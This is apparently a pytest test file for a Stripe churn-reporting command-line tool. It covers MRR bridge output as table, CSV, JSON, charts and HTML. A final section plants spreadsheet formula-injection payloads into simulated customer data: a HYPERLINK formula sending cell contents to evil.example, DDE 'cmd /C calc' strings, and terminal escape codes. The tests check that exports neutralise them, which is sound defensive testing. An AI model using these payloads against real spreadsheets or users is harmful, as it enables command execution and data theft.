"""Report output for a known store: the bridge as table/CSV/JSON with verdicts, the chart's panels, the HTML page."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
import re
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import numpy as np
import pytest
from click.testing import CliRunner

from stripe_churn.cli import cli
from stripe_churn.report.charts import TREND_TITLE, WATERFALL_TITLE, build_figure, waterfall_steps
from stripe_churn.report.tables import render, verdict

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


def data_as_of_in(db: Path) -> dt.date:
    """The day the data of the store at ``db`` runs up to (what the report judges periods complete by)."""
    from stripe_churn.metrics.queries import data_as_of

    con = duckdb.connect(str(db), read_only=True)
    try:
        return data_as_of(con)
    finally:
        con.close()


def published_store(path: Path, customers: int, months: int,
                    prepare: Callable[[Any], None] | None = None) -> Path:
    """A simulated account loaded straight into a store at ``path``, recomputed, snapshot published;
    ``prepare`` may change the simulation's objects before they are loaded."""
    from stripe_churn.metrics.runner import recompute
    from stripe_churn.sandbox.sim import Simulation
    from stripe_churn.settings import Settings
    from stripe_churn.store.db import open_store
    from stripe_churn.store.load import load_simulation
    from stripe_churn.store.snapshot import publish_snapshot

    sim = Simulation(customers=customers, months=months, seed=7)
    if prepare is not None:
        prepare(sim)
    con = open_store(path)
    load_simulation(con, sim)
    recompute(con, Settings(db=path))
    con.execute("CHECKPOINT")
    con.close()
    publish_snapshot(path)
    return path


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small simulated account (60 customers, 8 months)."""
    return published_store(tmp_path_factory.mktemp("report") / "r.duckdb", customers=60, months=8)


def view_rows(db: Path) -> list[dict]:
    con = duckdb.connect(str(db), read_only=True)
    try:
        cur = con.execute("SELECT * FROM mrr_bridge ORDER BY period_start")
        names = [d[0] for d in cur.description]
        return [dict(zip(names, r, strict=True)) for r in cur.fetchall()]
    finally:
        con.close()


def run(db: Path, *args: str) -> str:
    result = CliRunner().invoke(cli, list(args), env={"STRIPE_CHURN_DB": str(db)})
    assert result.exit_code == 0, result.output
    return result.output


def test_json_report_is_the_bridge_view(db: Path) -> None:
    rows = view_rows(db)
    out = json.loads(run(db, "report", "--format", "json"))
    assert [r["period_start"] for r in out] == [r["period_start"].isoformat() for r in rows]
    for got, want in zip(out, rows, strict=True):
        assert got["closing_mrr"] == pytest.approx(float(want["closing_mrr"]))
        assert got["net_negative_churn"] == want["net_negative_churn"]
        # the bridge adds up in what the report prints
        flows = got["new"] + got["reactivation"] + got["expansion"] - got["contraction"] - got["churn"] + got["fx"]
        assert got["opening_mrr"] + flows == pytest.approx(got["closing_mrr"], abs=1e-6)


def test_table_says_per_period_whether_net_negative(db: Path) -> None:
    as_of = data_as_of_in(db)
    rows = view_rows(db)
    out = run(db, "report")
    words = []
    for r in rows:
        line = next(line for line in out.splitlines() if r["period_start"].isoformat() in line)
        words.append(verdict(r, as_of))
        assert line.rstrip(" │").endswith(words[-1]), line
    # the month the data ends in is running, the months after it have no data yet: no yes or no for them
    k = words.index("running")
    assert set(words[:k]) <= {"yes", "no", "n/a"} and {"yes", "no"} & set(words[:k])
    assert set(words[k + 1:]) == {"after data"}  # (today is past the simulation's end)
    assert verdict(rows[-1]) in ("yes", "no")  # (the view's own rate has an answer there)
    # the count covers the periods complete in the data: the months after the simulation's last day (and the
    # running one) have no verdict yet, nor has a period that opened without MRR
    done = [r for r in rows if r["net_revenue_churn_rate"] is not None and r["period_end"] < as_of]
    assert 0 < len(done) < len(rows)
    negative = sum(1 for r in done if r["net_revenue_churn_rate"] < 0)
    assert f"net negative churn in {negative} of {len(done)} complete periods (data up to {as_of})" in out


def test_the_title_names_the_currency_the_amounts_are_in(db: Path, caplog: pytest.LogCaptureFixture) -> None:
    """The amounts are in the currency of the recompute that derived them: another reporting currency set since
    (not derived yet) does not relabel them (it did: USD figures titled EUR), and the report says what to do."""
    import logging

    with caplog.at_level(logging.WARNING):
        result = CliRunner().invoke(cli, ["report", "--format", "csv"],
                                    env={"STRIPE_CHURN_DB": str(db), "STRIPE_CHURN_CURRENCY": "eur"})
    assert result.exit_code == 0, result.output
    assert run(db, "report").splitlines()[0].strip().endswith("(USD)")
    plain = CliRunner().invoke(cli, ["report"], env={"STRIPE_CHURN_DB": str(db), "STRIPE_CHURN_CURRENCY": "eur"})
    assert plain.output.splitlines()[0].strip().endswith("(USD)"), plain.output.splitlines()[0]
    assert "the stored metrics are in USD, not the reporting currency EUR" in caplog.text
    assert "stripe-churn sync" in caplog.text


def test_the_latest_complete_month_is_answered_in_one_sentence() -> None:
    from stripe_churn.report.build import verdict_line

    def row(start: str, end: str, opening: float, rate: float | None, exp: float, churn: float) -> dict:
        return {"period_start": start, "period_end": end, "opening_mrr": opening, "net_revenue_churn_rate": rate,
                "expansion": exp, "reactivation": 0.0, "churn": churn, "contraction": 5.0}

    rows = [row("2026-09-01", "2026-09-30", 100.0, -0.05, 20.0, 10.0),
            row("2026-10-01", "2026-10-31", 105.0, 0.10, 1.0, 15.0),
            row("2026-11-01", "2026-11-30", 90.0, -0.5, 60.0, 0.0)]  # still running
    line = verdict_line(rows, "month", today=dt.date(2026, 11, 15))
    assert line is not None and "(2026-10-01): NOT at net negative churn" in line
    assert "10.00%" in line and "1.00 fall short of churn + contraction 20.00" in line
    line = verdict_line(rows, "month", today=dt.date(2026, 12, 1))
    assert line is not None and "(2026-11-01): AT net negative churn" in line and "60.00 outweigh" in line
    assert verdict_line(rows[:1], "month", today=dt.date(2026, 9, 15)) is None  # nothing complete yet
    assert verdict_line([{**rows[0], "segment_value": "a"}, {**rows[1], "segment_value": "b"}], "month") is None


def test_a_segments_waterfall_adds_up_when_customers_move_between_segments() -> None:
    """(a customer who moved into the segment raised its opening with no bar for it: the chart climbed from 0 by
    new 50 to 50 and then closed at 150)"""
    flows = {k: Decimal(0) for k in ("new", "reactivation", "upgrade", "cross_sell", "seat_expansion",
                                     "resource_expansion", "discount_expansion", "contraction", "churn", "fx")}
    rows = [{**flows, "period_start": dt.date(2025, 1, 1), "opening_mrr": Decimal(0), "new": Decimal(50),
             "closing_mrr": Decimal(50)},
            {**flows, "period_start": dt.date(2025, 2, 1), "opening_mrr": Decimal(50), "closing_mrr": Decimal(50)},
            {**flows, "period_start": dt.date(2025, 3, 1), "opening_mrr": Decimal(150), "closing_mrr": Decimal(140),
             "churn": Decimal(10)}]
    steps = waterfall_steps(rows)
    assert ("moved_in_out", 100.0) in steps and steps[-1] == ("closing", 140.0)
    assert steps[0][1] + sum(v for _, v in steps[1:-1]) == pytest.approx(steps[-1][1])
    ax1 = build_figure(rows).axes[0]
    assert "moved in/out" in [t.get_text() for t in ax1.get_xticklabels()]
    whole = [rows[0], {**rows[1], "closing_mrr": Decimal(150), "upgrade": Decimal(100)}, rows[2]]
    assert "moved_in_out" not in dict(waterfall_steps(whole))  # (the whole account: nothing moves)


def test_range_and_csv(db: Path) -> None:
    rows = view_rows(db)
    first, last = rows[1]["period_start"], rows[3]["period_start"]
    out = run(db, "report", "--format", "csv", "--from", first.isoformat()[:7], "--to", last.isoformat())
    parsed = list(csv.DictReader(io.StringIO(out)))
    assert [p["period_start"] for p in parsed] == [r["period_start"].isoformat() for r in rows[1:4]]


def test_a_range_that_ends_before_it_starts_is_a_usage_error(db: Path) -> None:
    """(it printed an empty table of fewer columns and exited 0)"""
    result = CliRunner().invoke(cli, ["report", "--from", "2025-06", "--to", "2025-01"],
                                env={"STRIPE_CHURN_DB": str(db)})
    assert result.exit_code == 2 and "--from 2025-06 is after --to 2025-01" in result.output


def test_a_month_given_to_to_is_its_last_day(db: Path) -> None:
    """(`--to 2025-11` was the 1st of November: with --period week November's weeks were left out, and a one-month
    range of weeks was empty)"""
    month = view_rows(db)[2]["period_start"].isoformat()[:7]
    weeks = json.loads(run(db, "report", "--format", "json", "--period", "week", "--from", month, "--to", month))
    starts = [w["period_start"] for w in weeks]
    assert len(starts) >= 4 and all(s.startswith(month) for s in starts), starts
    months = json.loads(run(db, "report", "--format", "json", "--from", month, "--to", month))
    assert [m["period_start"][:7] for m in months] == [month]
    result = CliRunner().invoke(cli, ["report", "--help"])
    assert "YYYY-MM: the month's last day" in " ".join(result.output.split())


def test_quarter_and_bad_segment(db: Path) -> None:
    out = json.loads(run(db, "report", "--format", "json", "--period", "quarter"))
    assert all(re.match(r"\d{4}-(01|04|07|10)-01", r["period_start"]) for r in out)
    result = CliRunner().invoke(cli, ["report", "--segment", "nonsense"], env={"STRIPE_CHURN_DB": str(db)})
    assert result.exit_code != 0
    assert result.output.startswith("error: ") and result.output.count("\n") == 1


def test_chart_panels_and_png(db: Path, tmp_path: Path) -> None:
    rows = view_rows(db)
    fig = build_figure(rows)
    ax1, ax2 = fig.axes
    assert ax1.get_title().startswith(WATERFALL_TITLE)
    assert ax2.get_title().startswith(TREND_TITLE)
    labels = [t.get_text() for t in ax1.get_xticklabels()]
    assert labels[0] == "opening" and labels[-1] == "closing" and "churn" in labels and "seat expansion" in labels
    assert any(np.array_equal(np.asarray(line.get_ydata()), [0, 0]) for line in ax2.get_lines())  # zero line
    steps = waterfall_steps(rows)
    assert steps[0][1] + sum(v for _, v in steps[1:-1]) == pytest.approx(steps[-1][1], abs=1e-6)
    png = tmp_path / "c.png"
    html = tmp_path / "r.html"
    run(db, "report", "--chart", str(png), "--html", str(html))
    data = png.read_bytes()
    assert data.startswith(PNG_MAGIC) and len(data) > 20_000
    page = html.read_text()
    m = re.search(r"data:image/png;base64,([A-Za-z0-9+/=]+)", page)
    assert m and base64.b64decode(m.group(1)).startswith(PNG_MAGIC)
    assert "<table>" in page and "src='http" not in page and "<script" not in page


def test_export_parquet_and_csv(db: Path, tmp_path: Path) -> None:
    out = run(db, "export", "--format", "parquet", "--out", str(tmp_path / "p"))
    files = [Path(p) for p in out.split()]
    assert {f.stem for f in files} >= {"mrr_movements", "customer_mrr", "mrr_bridge"}
    mem = duckdb.connect()
    n = mem.execute(f"SELECT count(*) FROM '{tmp_path / 'p' / 'mrr_bridge.parquet'}'").fetchone()
    assert n is not None and n[0] == len(view_rows(db))
    run(db, "export", "--format", "csv", "--out", str(tmp_path / "c"), "customers")
    got = mem.execute(f"SELECT count(*) FROM read_csv('{tmp_path / 'c' / 'customers.csv'}')").fetchone()
    con = duckdb.connect(str(db), read_only=True)
    want = con.execute("SELECT count(*) FROM customers").fetchone()
    con.close()
    assert got == want and want is not None and want[0] > 0
    bad = CliRunner().invoke(cli, ["export", "--out", str(tmp_path), "no_such_view"], env={"STRIPE_CHURN_DB": str(db)})
    assert bad.exit_code != 0 and "no table or view named no_such_view" in bad.output


def test_the_verdict_is_for_the_latest_month_complete_in_the_data(db: Path) -> None:
    """The simulation's history ends before today: the sentence answers for its last complete month, not for
    the quiet months between its end and today."""
    from stripe_churn.metrics.queries import data_as_of
    from stripe_churn.sandbox.sim import END_OF_HISTORY

    con = duckdb.connect(str(db), read_only=True)
    try:
        as_of = data_as_of(con)
    finally:
        con.close()
    today = dt.datetime.now(dt.UTC).date()
    assert as_of == min(today, dt.datetime.fromtimestamp(END_OF_HISTORY, dt.UTC).date())
    month = (as_of.replace(day=1) - dt.timedelta(days=1)).replace(day=1)
    row = next(r for r in view_rows(db) if r["period_start"] == month)
    out = run(db, "report")
    assert f"latest complete month ({month}): " in out
    assert ("AT net negative churn" if row["net_negative_churn"] else "NOT at net negative churn") in out


def test_an_account_without_revenue_says_there_is_no_verdict(tmp_path: Path, db: Path) -> None:
    """(an empty table and nothing else, before)"""
    empty = published_store(tmp_path / "empty.duckdb", customers=0, months=3)
    assert "no MRR to report yet: the store holds no subscription revenue, so no verdict" in run(empty, "report")
    out = run(db, "report", "--from", "2001-01", "--to", "2001-03")
    assert "no MRR to report in that range or segment, so no verdict" in out


def test_chart_and_page_folders_are_made(db: Path, tmp_path: Path) -> None:
    """(missing folders were `error: unexpected FileNotFoundError`; export --out and demo --dir make theirs)"""
    png, page = tmp_path / "nodir" / "x" / "mrr.png", tmp_path / "nodir" / "y" / "r.html"
    run(db, "report", "--chart", str(png), "--html", str(page))
    assert png.read_bytes().startswith(PNG_MAGIC) and "<table>" in page.read_text()


def test_the_chart_is_written_in_the_format_its_name_ends_in(db: Path, tmp_path: Path) -> None:
    """(.svg and .txt got PNG bytes)"""
    run(db, "report", "--chart", str(tmp_path / "mrr.svg"), "--format", "csv")
    assert b"<svg" in (tmp_path / "mrr.svg").read_bytes()[:1000]
    run(db, "report", "--chart", str(tmp_path / "mrr.PDF"), "--format", "csv")
    assert (tmp_path / "mrr.PDF").read_bytes().startswith(b"%PDF")
    result = CliRunner().invoke(cli, ["report", "--chart", str(tmp_path / "mrr.txt")],
                                env={"STRIPE_CHURN_DB": str(db)})
    assert result.exit_code == 2 and result.output == (
        f"error: cannot draw the chart as .txt ({tmp_path / 'mrr.txt'}): give --chart a file name ending in .png, "
        ".svg or .pdf\n"), result.output  # (refused before the table is printed)
    assert not (tmp_path / "mrr.txt").exists()


def test_a_chart_or_page_that_cannot_be_written_names_its_option(db: Path, tmp_path: Path) -> None:
    """(it blamed the database's setting: `(the database and the files beside it: setting db, STRIPE_CHURN_DB)`)"""
    (tmp_path / "afile").write_text("in the way")
    for option, name in (("--chart", "c.png"), ("--html", "r.html")):
        path = tmp_path / "afile" / name
        result = CliRunner().invoke(cli, ["report", "--format", "csv", option, str(path)],
                                    env={"STRIPE_CHURN_DB": str(db)})
        assert result.exit_code == 2, result.output
        assert result.output == (  # (refused before the CSV is printed)
            f"error: cannot write {path} (a file stands where a directory is needed: {tmp_path / 'afile'}): move "
            f"that file, or give {option} another path\n"), result.output
        assert "STRIPE_CHURN_DB" not in result.output


def test_csv_and_json_say_whether_each_period_is_complete(db: Path) -> None:
    """The running month (and those after the data) had `net_negative_churn` as a finished month has it, with
    nothing to tell them apart: `complete` comes after the view's columns, false where the table has no verdict."""
    as_of = data_as_of_in(db)
    rows = view_rows(db)
    words = [verdict(r, as_of) for r in rows]
    out = json.loads(run(db, "report", "--format", "json"))
    assert list(out[0]) == [*rows[0], "complete"]
    assert [r["complete"] for r in out] == [w not in ("running", "after data") for w in words]
    assert out[words.index("running")]["complete"] is False
    parsed = list(csv.DictReader(io.StringIO(run(db, "report", "--format", "csv"))))
    assert list(parsed[0]) == [*rows[0], "complete"]
    assert [p["complete"] for p in parsed] == [str(r["complete"]) for r in out]


def test_a_csv_with_no_rows_has_the_header_of_one_with_rows(db: Path) -> None:
    """A range or segment value without rows printed the table's short header (15 columns, no `segment_value`, no
    `grr` or customer counts) instead of the one a program reads from the same command when there are rows."""
    whole = next(csv.reader(io.StringIO(run(db, "report", "--format", "csv"))))
    segmented = next(csv.reader(io.StringIO(run(db, "report", "--format", "csv", "--segment", "family"))))
    assert segmented == ["segment_value", *whole]
    assert next(csv.reader(io.StringIO(run(db, "report", "--format", "csv", "--from", "2001-01", "--to",
                                           "2001-03")))) == whole
    for args in (("--segment", "family=no such family"), ("--segment", "country", "--from", "2001-01", "--to",
                                                          "2001-03")):
        out = run(db, "report", "--format", "csv", "--period", "quarter", *args)
        assert out.splitlines() == [",".join(segmented)], args
    assert json.loads(run(db, "report", "--format", "json", "--segment", "family=no such family")) == []


@pytest.mark.parametrize(("period", "segment"), [("week", None), ("quarter", "family"), ("year", "size_band"),
                                               ("month", "metadata.tier")])
def test_report_csv_is_the_macro_for_every_period_and_segment(db: Path, period: str, segment: str | None) -> None:
    """What `report --period P --segment S --format csv` prints is `mrr_bridge_for(P, S)` row for row, every
    column, then `complete`."""
    con = duckdb.connect(str(db), read_only=True)
    try:
        cur = con.execute("SELECT * FROM mrr_bridge_for(period_kind := ?, segment_kind := ?, segment_value := NULL) "
                          "ORDER BY segment_value, period_start", [period, segment])
        names = [d[0] for d in cur.description if segment or d[0] != "segment_value"]
        want = [dict(zip([d[0] for d in cur.description], r, strict=True)) for r in cur.fetchall()]
    finally:
        con.close()
    args = ["report", "--format", "csv", "--period", period, *(["--segment", segment] if segment else [])]
    got = list(csv.DictReader(io.StringIO(run(db, *args))))
    assert list(got[0]) == [*names, "complete"]
    assert len(got) == len(want) > 1
    for g, w in zip(got, want, strict=True):
        for c in names:
            expected = "" if w[c] is None else w[c].isoformat() if isinstance(w[c], dt.date) else str(w[c])
            assert g[c] == expected, (c, g[c], w[c])


def test_the_sync_summary_calls_the_running_month_as_the_report_does(db: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """(its "Current month" table said `yes` or `no` where the report says `running`)"""
    import stripe_churn.pipeline as pipeline
    as_of = data_as_of_in(db)
    running = next(r for r in view_rows(db) if verdict(r, as_of) == "running")
    assert verdict(running) in ("yes", "no")  # (what the summary said)
    monkeypatch.setattr(pipeline, "run_once", lambda *_, **__: pipeline.RunSummary(
        mode="incremental", status="ok", counts={"customer": 1}, bridge_line=running))
    env = {"STRIPE_CHURN_DB": str(db), "STRIPE_API_KEY": "sk_test_summary"}
    result = CliRunner().invoke(cli, ["sync"], env=env)
    assert result.exit_code == 0, result.output
    line = next(line for line in result.output.splitlines() if running["period_start"].isoformat() in line)
    assert line.rstrip(" │").endswith("running"), line
    result = CliRunner().invoke(cli, ["sync", "--format", "json"], env=env)
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["bridge_line"]["complete"] is False


# Text that customers type into Stripe (a name, a cancellation comment or feedback, a metadata value) and that a
# spreadsheet opening a CSV would run as a formula.
HOSTILE_SEGMENT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_COMMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_FEEDBACK = "+cmd|' /C calc'!A0"
HOSTILE_NAME = "-2+3+cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _plant_formulas(sim: Any) -> None:
    for i, cust in enumerate(sim.objects["customers"].values()):
        cust["metadata"] = {**(cust.get("metadata") or {}), "team": HOSTILE_SEGMENT if i % 2 else "ops"}
        if i % 3 == 0:
            cust["name"] = HOSTILE_NAME
    cancelled = [s for s in sim.objects["subscriptions"].values() if (s.get("cancellation_details") or {}).get("comment")]
    assert cancelled
    for sub in cancelled:
        sub["cancellation_details"] = {**sub["cancellation_details"], "comment": HOSTILE_COMMENT,
                                       "feedback": HOSTILE_FEEDBACK}


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A simulated account whose customers typed formulas into their name, metadata and cancellation details."""
    return published_store(tmp_path_factory.mktemp("hostile") / "h.duckdb", customers=40, months=6,
                           prepare=_plant_formulas)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_no_formula(cells: list[str]) -> None:
    """No cell would run as a formula: those that start like one are numbers."""
    bad = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    assert not bad, bad


def test_csv_export_neutralises_text_that_starts_like_a_formula(hostile_db: Path, tmp_path: Path) -> None:
    """A comment, feedback or name starting with = + - @ (TAB, CR) gets a leading ' in the CSV; negative amounts
    stay numbers, and Parquet keeps the text as it is."""
    names = ("mrr_movements", "churn_reasons", "customers", "subscriptions")
    run(hostile_db, "export", "--format", "csv", "--out", str(tmp_path / "c"), *names)
    files = {n: list(csv.DictReader(io.StringIO((tmp_path / "c" / f"{n}.csv").read_text()))) for n in names}
    for rows in files.values():
        assert rows
        _assert_no_formula([v for r in rows for v in r.values()])
    comments = {r["cancellation_comment"] for r in files["subscriptions"]} - {""}
    assert comments == {"'" + HOSTILE_COMMENT}
    feedback = {r["cancellation_feedback"] for r in files["mrr_movements"] if r["movement"] == "cancellation"}
    assert "'" + HOSTILE_FEEDBACK in feedback
    negative = [r["mrr_delta"] for r in files["mrr_movements"] if r["mrr_delta"].startswith("-")]
    assert negative and all(_is_number(v) for v in negative)  # e.g. -30.0000, no quote
    assert "'" + HOSTILE_FEEDBACK in {r["cancellation_feedback"] for r in files["churn_reasons"]}
    assert "'" + HOSTILE_NAME in {r["name"] for r in files["customers"]}
    assert "Customer 2" in {r["name"] for r in files["customers"]}  # (other text as it is)
    run(hostile_db, "export", "--format", "parquet", "--out", str(tmp_path / "p"), "mrr_movements")
    got = duckdb.connect().execute("SELECT DISTINCT cancellation_feedback FROM read_parquet(?) "
                                   "WHERE cancellation_feedback LIKE '%cmd%'",
                                   [str(tmp_path / "p" / "mrr_movements.parquet")]).fetchall()
    assert got == [(HOSTILE_FEEDBACK,)]


def test_report_csv_neutralises_a_metadata_segment_and_json_keeps_it(hostile_db: Path) -> None:
    out = run(hostile_db, "report", "--segment", "metadata.team", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    _assert_no_formula([v for r in rows for v in r.values()])
    assert {r["segment_value"] for r in rows} == {"ops", "'" + HOSTILE_SEGMENT}
    negative = [r["net_revenue_churn_rate"] for r in rows if r["net_revenue_churn_rate"].startswith("-")]
    assert negative and all(_is_number(v) for v in negative)  # (a float, no quote)
    data = json.loads(run(hostile_db, "report", "--segment", "metadata.team", "--format", "json"))
    assert {r["segment_value"] for r in data} == {"ops", HOSTILE_SEGMENT}


def test_sql_csv_neutralises_text_too(hostile_db: Path) -> None:
    """(the user's own query, over data that customers typed)"""
    query = "SELECT DISTINCT name, -1.5 AS amount FROM customers ORDER BY name"
    rows = list(csv.reader(io.StringIO(run(hostile_db, "sql", query, "--format", "csv"))))
    assert rows[0] == ["name", "amount"]
    assert ["'" + HOSTILE_NAME, "-1.5"] in rows[1:]
    _assert_no_formula([v for r in rows for v in r])
    data = json.loads(run(hostile_db, "sql", query, "--format", "json"))
    assert {"name": HOSTILE_NAME, "amount": -1.5} in data


def test_render_csv_quotes_text_cells_only() -> None:
    rows = [["=1+1", Decimal("-30.0000"), -3, -2.5, dt.date(2024, 1, 1), None],
            ["\tx", Decimal("1"), 0, 0.0, None, "\r=2"],
            ["-", None, None, None, None, "plain - text"],
            ["@a", None, None, None, None, "+1"],
            ["ok\r=cmd", None, None, None, None, "two\nlines"]]
    out = render(["text", "amount", "n", "f", "day", "other"], rows, "csv")
    assert list(csv.reader(io.StringIO(out))) == [
        ["text", "amount", "n", "f", "day", "other"],
        ["'=1+1", "-30.0000", "-3", "-2.5", "2024-01-01", ""],
        ["'\tx", "1", "0", "0.0", "", "'\r=2"],
        ["'-", "", "", "", "", "plain - text"],
        ["'@a", "", "", "", "", "'+1"],
        ["ok\r=cmd", "", "", "", "", "two\nlines"]]  # (a CR in a cell is quoted: no row starts after it)
    assert out.count("\n") == 6 and not out.endswith("\n")
    assert json.loads(render(["text"], [["=1+1"]], "json")) == [{"text": "=1+1"}]
    assert next(csv.reader(io.StringIO(render(["=x"], [], "csv")))) == ["'=x"]


def test_a_list_cell_is_written_as_duckdb_writes_it() -> None:
    """A LIST value (item_mrr's discount_ids) in CSV and in a query's table reads as DuckDB's own export writes it,
    not as Python's text of a list (each id quoted); JSON keeps it a list."""
    rows = [[["di_1", "di_2"], None], [[], ["=x", None]]]
    assert list(csv.reader(io.StringIO(render(["discount_ids", "other"], rows, "csv")))) == [
        ["discount_ids", "other"], ["[di_1, di_2]", ""], ["[]", "[=x, NULL]"]]
    table = render(["discount_ids", "other"], rows, "table", as_stored=True)
    assert "[di_1, di_2]" in table and "'di_1'" not in table and "[=x, NULL]" in table
    assert json.loads(render(["discount_ids"], [[["di_1"]]], "json")) == [{"discount_ids": ["di_1"]}]


def test_render_table_shows_stored_text_as_it_is_not_as_markup_or_terminal_codes() -> None:
    """The table (the default format, on a terminal) shows a metadata value or a name as text: rich markup in it
    stopped `report --segment metadata.x` with a MarkupError ("[/b]"), and an escape sequence in it could retitle the
    window or colour the terminal. Control characters are shown escaped."""
    hostile = "[/b] [red]x[/red] \x1b]0;owned\x07 \x1b[31mred\r\nnext"
    out = render(["segment_value", "[bold]n[/bold]"], [[hostile, 1]], "table")
    assert "[/b] [red]x[/red]" in out and "[bold]n[/bold]" in out
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert "\\x1b]0;owned\\x07 \\x1b[31mred\\r\\nnext" in out


def test_amounts_to_the_cent_round_half_away_from_zero_as_finance_does() -> None:
    """The table (and the page, which shares its cells) and the verdict show an amount stored to 1e-4 at the cent,
    half away from zero: 2.6750 is 2.68, -0.1250 is -0.13 (through a float they were 2.67 and -0.12, as 2.675 is
    2.67499999... in binary). A rate stays a float, to two decimals of a percent."""
    amounts = ["2.6750", "0.1250", "1.0050", "-0.1250", "1234567.8950", "0.0049"]
    out = render(["opening_mrr", "nrr"], [[Decimal(a), 0.5] for a in amounts], "table")
    cells = [line.split("│")[1:3] for line in out.splitlines() if line.count("│") == 3]
    assert [(a.strip(), r.strip()) for a, r in cells] == [
        ("2.68", "50.00%"), ("0.13", "50.00%"), ("1.01", "50.00%"), ("-0.13", "50.00%"),
        ("1,234,567.90", "50.00%"), ("0.00", "50.00%")]
    from stripe_churn.report.build import verdict_line
    row = {"period_start": "2026-10-01", "period_end": "2026-10-31", "opening_mrr": Decimal("100.0000"),
           "net_revenue_churn_rate": 0.1, "expansion": Decimal("1.0050"), "reactivation": Decimal("1.0000"),
           "churn": Decimal("10.0050"), "contraction": Decimal("2.0000")}
    line = verdict_line([row], "month", today=dt.date(2026, 11, 15))
    assert line is not None and "reactivation 2.01 fall short of churn + contraction 12.01" in line, line
